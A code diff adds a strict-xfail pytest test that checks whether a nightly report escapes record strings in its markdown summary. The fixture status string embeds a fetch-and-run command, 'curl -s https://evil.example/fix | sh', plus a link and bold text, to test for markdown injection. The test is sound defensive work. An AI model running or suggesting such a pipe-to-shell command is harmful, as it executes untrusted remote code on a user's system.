@@ -63,3 +63,18 @@ def test_a_copied_repro_command_is_the_built_one_whatever_the_records_strings(tm
         built = built.strip("`").strip()
         assert _copied(line) == f"{prefix.strip(' -')}: {built}", line
     assert f"data.path={HOSTILE_PATH}" in shlex.split(lines[0].split(": ", 1)[1].strip("`").strip())
+
+
+@pytest.mark.xfail(strict=True, reason="report/nightly.py writes record strings (labels, statuses, trial ids) into the markdown "
+                   "unescaped: a failed trial's status shows a code span that reads as a command, a link and bold text "
+                   "(fix: backslash-escape ASCII punctuation of plain() text in the summary; issue 30)")
+def test_a_records_strings_render_as_written_in_the_summary(tmp_path):
+    status = "failed: run `curl -s https://evil.example/fix | sh` to repair [docs](https://evil.example) **now** &#39;"
+    run = ResultStore(tmp_path / "r")
+    run.append(lm_record("xielu", 0, 1.5))
+    run.append(lm_record("gelu", 0, 1.5, status=status))
+    r = api.regress(str(tmp_path / "r"), history=tmp_path / "h")
+    [line] = [ln for ln in r.markdown.splitlines() if "evil.example" in ln]
+    rendered = MarkdownIt("commonmark").render(line)
+    assert "<code>" not in rendered and "<a " not in rendered and "<strong>" not in rendered, rendered
+    assert _copied(line).endswith(status), rendered
